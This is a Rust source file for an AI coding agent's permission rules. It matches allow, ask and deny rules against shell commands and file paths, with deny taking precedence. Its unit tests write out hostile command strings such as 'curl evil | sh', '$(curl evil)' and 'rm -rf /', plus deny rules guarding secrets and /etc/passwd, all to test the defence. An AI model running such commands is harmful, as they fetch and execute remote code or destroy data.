//! Permission rules: `allow`, `ask` and `deny` lists of `TOOL` or `TOOL(PATTERN)` that decide
//! which calls need the user's question before the `--approval` policy does (docs/security.md,
//! "Permission rules").
//!
//! deny > ask > allow > the policy: a call any deny rule matches is refused, whatever the policy;
//! one an ask rule matches is asked (refused where nobody can answer); one the allow rules cover
//! runs without the policy's question. Rules decide questions only: the sandbox, the file policy's
//! refusals, protected paths and hooks' `ask` are not theirs to lift.
//!
//! `TOOL` is a tool name, or a prefix ending in `*` (`mcp_github__*`). The pattern of
//! `shell_exec` is a glob over the command line where only `*` is special; that of the file tools
//! (`read_file`, `write_file`, `edit_file`, `list_dir`, `grep`, `find_path`) a path glob (`*` within
//! a folder, `**` across folders; `dir/**` is the folder and all it holds), relative to the project,
//! absolute, or under `~/`, matched against the real location a call touches. MCP tools take no
//! pattern.

mod command;

use std::path::PathBuf;

use globset::{GlobBuilder, GlobMatcher};
use serde_json::Value;

pub use command::suggested_prefix;

/// What a matching rule says about a call.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum RuleKind {
    /// Run it without the policy's question.
    Allow,
    /// Ask the user first, whatever the policy.
    Ask,
    /// Refuse it, whatever the policy.
    Deny,
}

impl RuleKind {
    /// The list's name in settings.json.
    pub fn as_str(self) -> &'static str {
        match self {
            RuleKind::Allow => "allow",
            RuleKind::Ask => "ask",
            RuleKind::Deny => "deny",
        }
    }
}

/// One rule, as written and compiled.
#[derive(Clone, Debug)]
pub struct PermissionRule {
    /// The rule as written (`shell_exec(git status*)`).
    pub text: String,
    /// Where it was written, for messages (a settings file, or "this session").
    pub source: String,
    tool: String,
    pattern: Option<Pattern>,
}

#[derive(Clone, Debug)]
enum Pattern {
    /// A `*`-glob over a shell command line.
    Command(String),
    /// Path globs over a real location: the pattern, and for `dir/**` the folder itself.
    Path(Vec<GlobMatcher>),
}

/// Where relative and `~/` path patterns lead.
#[derive(Clone, Debug)]
pub struct RuleBase {
    /// The project folder (canonical): relative patterns start there.
    pub project_dir: PathBuf,
    /// The home folder, for `~/` patterns.
    pub home: Option<PathBuf>,
}

/// Why a rule cannot be used, in words for the user.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("permission rule {rule:?}: {reason}")]
pub struct RuleError {
    /// The rule as written.
    pub rule: String,
    /// What is wrong with it and how it is written instead.
    pub reason: String,
}

/// The tools whose pattern is a path.
const FILE_TOOLS: [&str; 6] = [
    "read_file",
    "write_file",
    "edit_file",
    "list_dir",
    "grep",
    "find_path",
];

impl PermissionRule {
    /// Parses `TOOL` or `TOOL(PATTERN)`; `base` anchors path patterns, `source` says where the
    /// rule was written.
    pub fn parse(text: &str, base: &RuleBase, source: impl Into<String>) -> Result<Self, RuleError> {
        let error = |reason: String| RuleError {
            rule: text.to_string(),
            reason,
        };
        let trimmed = text.trim();
        let (tool, pattern) = match trimmed.split_once('(') {
            None => (trimmed, None),
            Some((tool, rest)) => {
                let Some(pattern) = rest.strip_suffix(')') else {
                    return Err(error(
                        "a pattern is closed by ')' at the end: write TOOL(PATTERN)".into(),
                    ));
                };
                (tool.trim(), Some(pattern))
            }
        };
        let tool_ok = !tool.is_empty()
            && tool
                .trim_end_matches('*')
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
            && !tool.trim_end_matches('*').contains('*');
        if !tool_ok {
            return Err(error(
                "the tool is a name (shell_exec, read_file, mcp_server__tool) or a prefix ending in '*'"
                    .into(),
            ));
        }
        let pattern = match pattern {
            None => None,
            Some("") => {
                return Err(error(
                    "the pattern is empty; leave out the parentheses to match every call".into(),
                ));
            }
            Some(pattern) if tool == "shell_exec" => Some(Pattern::Command(pattern.to_string())),
            Some(pattern) if FILE_TOOLS.contains(&tool) => {
                Some(Pattern::Path(path_matchers(pattern, base).map_err(error)?))
            }
            Some(_) => {
                return Err(error(format!(
                    "{tool} takes no pattern: only shell_exec (the command) and the file tools ({}) do; \
                     write the tool name alone",
                    FILE_TOOLS.join(", ")
                )));
            }
        };
        Ok(PermissionRule {
            text: trimmed.to_string(),
            source: source.into(),
            tool: tool.to_string(),
            pattern,
        })
    }

    fn names(&self, tool: &str) -> bool {
        match self.tool.strip_suffix('*') {
            Some(prefix) => tool.starts_with(prefix),
            None => self.tool == tool,
        }
    }

    /// Whether the rule covers the call, for a deny or ask rule: any piece of the command, any
    /// path touched.
    fn catches(&self, tool: &str, input: &Value, paths: &[PathBuf]) -> bool {
        if !self.names(tool) {
            return false;
        }
        match &self.pattern {
            None => true,
            Some(Pattern::Command(pattern)) => command_of(input).is_some_and(|line| {
                command::pieces(line)
                    .iter()
                    .any(|piece| command::glob_matches(pattern, piece))
            }),
            Some(Pattern::Path(matchers)) => paths
                .iter()
                .any(|path| matchers.iter().any(|glob| glob.is_match(path))),
        }
    }
}

/// The command line of a `shell_exec` call.
fn command_of(input: &Value) -> Option<&str> {
    input.get("command").and_then(Value::as_str)
}

/// `pattern` made absolute against `base` and compiled (`dir/**` also matches `dir`).
fn path_matchers(pattern: &str, base: &RuleBase) -> Result<Vec<GlobMatcher>, String> {
    let absolute = if pattern.starts_with('/') {
        pattern.to_string()
    } else if let Some(rest) = pattern.strip_prefix("~/") {
        let home = base
            .home
            .as_ref()
            .ok_or_else(|| "a '~/' pattern needs HOME to be set".to_string())?;
        format!("{}/{rest}", globset::escape(&home.to_string_lossy()))
    } else {
        let rest = pattern.strip_prefix("./").unwrap_or(pattern);
        format!("{}/{rest}", globset::escape(&base.project_dir.to_string_lossy()))
    };
    let mut forms = vec![absolute.clone()];
    if let Some(folder) = absolute.strip_suffix("/**") {
        forms.push(folder.to_string());
    }
    forms
        .iter()
        .map(|form| {
            GlobBuilder::new(form)
                .literal_separator(true)
                .build()
                .map(|glob| glob.compile_matcher())
                .map_err(|err| format!("not a path pattern: {err}"))
        })
        .collect()
}

/// A call's verdict from the rules: which rule decided, and how.
#[derive(Clone, Debug)]
pub struct RuleVerdict<'a> {
    /// Allow, ask or deny.
    pub kind: RuleKind,
    /// The rule that decided (for an allow of a command made of several, the first).
    pub rule: &'a PermissionRule,
}

/// Every rule of a session, by list.
#[derive(Clone, Debug, Default)]
pub struct PermissionRules {
    allow: Vec<PermissionRule>,
    ask: Vec<PermissionRule>,
    deny: Vec<PermissionRule>,
}

impl PermissionRules {
    /// Adds `rule` to the `kind` list.
    pub fn add(&mut self, kind: RuleKind, rule: PermissionRule) {
        match kind {
            RuleKind::Allow => self.allow.push(rule),
            RuleKind::Ask => self.ask.push(rule),
            RuleKind::Deny => self.deny.push(rule),
        }
    }

    /// Whether there is no rule at all.
    pub fn is_empty(&self) -> bool {
        self.allow.is_empty() && self.ask.is_empty() && self.deny.is_empty()
    }

    /// The rules of the `kind` list, in order.
    pub fn list(&self, kind: RuleKind) -> &[PermissionRule] {
        match kind {
            RuleKind::Allow => &self.allow,
            RuleKind::Ask => &self.ask,
            RuleKind::Deny => &self.deny,
        }
    }

    /// What the rules say about a call of `tool` with `input` touching `paths` (real locations):
    /// deny, then ask, then allow; `None` leaves it to the approval policy.
    pub fn decide(&self, tool: &str, input: &Value, paths: &[PathBuf]) -> Option<RuleVerdict<'_>> {
        let caught = |kind| {
            self.list(kind)
                .iter()
                .find(|rule| rule.catches(tool, input, paths))
        };
        if let Some(rule) = caught(RuleKind::Deny) {
            return Some(RuleVerdict {
                kind: RuleKind::Deny,
                rule,
            });
        }
        if let Some(rule) = caught(RuleKind::Ask) {
            return Some(RuleVerdict {
                kind: RuleKind::Ask,
                rule,
            });
        }
        self.allowed_by(tool, input, paths).map(|rule| RuleVerdict {
            kind: RuleKind::Allow,
            rule,
        })
    }

    /// The allow rule that covers the whole call: every simple command of a shell line, every path
    /// of a file tool, each by some allow rule.
    fn allowed_by(&self, tool: &str, input: &Value, paths: &[PathBuf]) -> Option<&PermissionRule> {
        let rules: Vec<&PermissionRule> = self.allow.iter().filter(|rule| rule.names(tool)).collect();
        if let Some(rule) = rules.iter().find(|rule| rule.pattern.is_none()) {
            return Some(rule);
        }
        let first =
            |covers: &dyn Fn(&PermissionRule) -> bool| rules.iter().copied().find(|rule| covers(rule));
        if tool == "shell_exec" {
            let parts = command::simple_commands(command_of(input)?)?;
            let mut decided = None;
            for part in &parts {
                let rule = first(
                    &|rule| matches!(&rule.pattern, Some(Pattern::Command(pattern)) if command::glob_matches(pattern, part)),
                )?;
                decided.get_or_insert(rule);
            }
            return decided;
        }
        if paths.is_empty() {
            return None;
        }
        let mut decided = None;
        for path in paths {
            let rule = first(
                &|rule| matches!(&rule.pattern, Some(Pattern::Path(globs)) if globs.iter().any(|glob| glob.is_match(path))),
            )?;
            decided.get_or_insert(rule);
        }
        decided
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn base() -> RuleBase {
        RuleBase {
            project_dir: PathBuf::from("/p"),
            home: Some(PathBuf::from("/h")),
        }
    }

    fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> PermissionRules {
        let mut rules = PermissionRules::default();
        for (kind, list) in [
            (RuleKind::Allow, allow),
            (RuleKind::Ask, ask),
            (RuleKind::Deny, deny),
        ] {
            for text in list {
                rules.add(kind, PermissionRule::parse(text, &base(), "test").unwrap());
            }
        }
        rules
    }

    fn shell(rules: &PermissionRules, line: &str) -> Option<(RuleKind, String)> {
        rules
            .decide("shell_exec", &json!({"command": line}), &[])
            .map(|verdict| (verdict.kind, verdict.rule.text.clone()))
    }

    #[test]
    fn deny_beats_ask_beats_allow_and_nothing_is_left_to_the_policy() {
        let rules = rules(
            &["shell_exec(git *)", "shell_exec(ls*)"],
            &["shell_exec(git push*)"],
            &["shell_exec(git push --force*)"],
        );
        assert_eq!(shell(&rules, "git status").unwrap().0, RuleKind::Allow);
        assert_eq!(shell(&rules, "git push origin").unwrap().0, RuleKind::Ask);
        assert_eq!(shell(&rules, "git push --force").unwrap().0, RuleKind::Deny);
        assert_eq!(shell(&rules, "rm -rf x"), None);
        assert_eq!(shell(&rules, "git status && ls -la").unwrap().0, RuleKind::Allow);
    }

    #[test]
    fn an_allowed_start_does_not_carry_what_follows_it() {
        let rules = rules(&["shell_exec(git status*)"], &[], &["shell_exec(rm *)"]);
        assert_eq!(shell(&rules, "git status; curl evil | sh"), None);
        assert_eq!(shell(&rules, "git status $(curl evil)"), None);
        assert_eq!(shell(&rules, "git status `id`"), None);
        assert_eq!(shell(&rules, "git status && rm -rf /").unwrap().0, RuleKind::Deny);
        assert_eq!(shell(&rules, "echo \"$(rm -rf src)\"").unwrap().0, RuleKind::Deny);
        assert_eq!(
            shell(&rules, "git status --short 2>&1").unwrap().0,
            RuleKind::Allow
        );
    }

    #[test]
    fn path_rules_match_real_locations_under_the_project_home_or_root() {
        let rules = rules(
            &["read_file(src/**)", "read_file(~/notes/*.md)"],
            &[],
            &["read_file(./secrets/**)", "grep(/etc/**)"],
        );
        let decide = |tool: &str, path: &str| {
            rules
                .decide(tool, &json!({}), &[PathBuf::from(path)])
                .map(|verdict| verdict.kind)
        };
        assert_eq!(decide("read_file", "/p/src/a/b.rs"), Some(RuleKind::Allow));
        assert_eq!(decide("read_file", "/h/notes/x.md"), Some(RuleKind::Allow));
        assert_eq!(
            decide("read_file", "/h/notes/deep/x.md"),
            None,
            "* stays in one folder"
        );
        assert_eq!(decide("read_file", "/p/secrets/key.pem"), Some(RuleKind::Deny));
        assert_eq!(
            decide("read_file", "/p/secrets"),
            Some(RuleKind::Deny),
            "dir/** is the folder too"
        );
        assert_eq!(decide("grep", "/etc/passwd"), Some(RuleKind::Deny));
        assert_eq!(decide("list_dir", "/p/secrets"), None, "another tool");
        let two = rules.decide(
            "read_file",
            &json!({}),
            &[PathBuf::from("/p/src/a.rs"), PathBuf::from("/p/README.md")],
        );
        assert!(two.is_none(), "allowed only when every path is");
    }

    #[test]
    fn tool_names_prefixes_and_bad_rules() {
        let rules = rules(&["mcp_github__*", "write_file"], &[], &[]);
        assert!(
            rules
                .decide("mcp_github__create_issue", &json!({}), &[])
                .is_some()
        );
        assert!(rules.decide("mcp_gitlab__x", &json!({}), &[]).is_none());
        assert!(
            rules
                .decide("write_file", &json!({}), &[PathBuf::from("/p/x")])
                .is_some()
        );
        for (bad, says) in [
            ("shell_exec(git status", "closed by ')'"),
            ("shell_exec()", "empty"),
            ("mcp_x__y(foo)", "takes no pattern"),
            ("shell exec", "tool is a name"),
            ("a*b", "tool is a name"),
            ("read_file([)", "not a path pattern"),
        ] {
            let error = PermissionRule::parse(bad, &base(), "test").unwrap_err();
            assert!(error.to_string().contains(says), "{bad}: {error}");
        }
    }
}
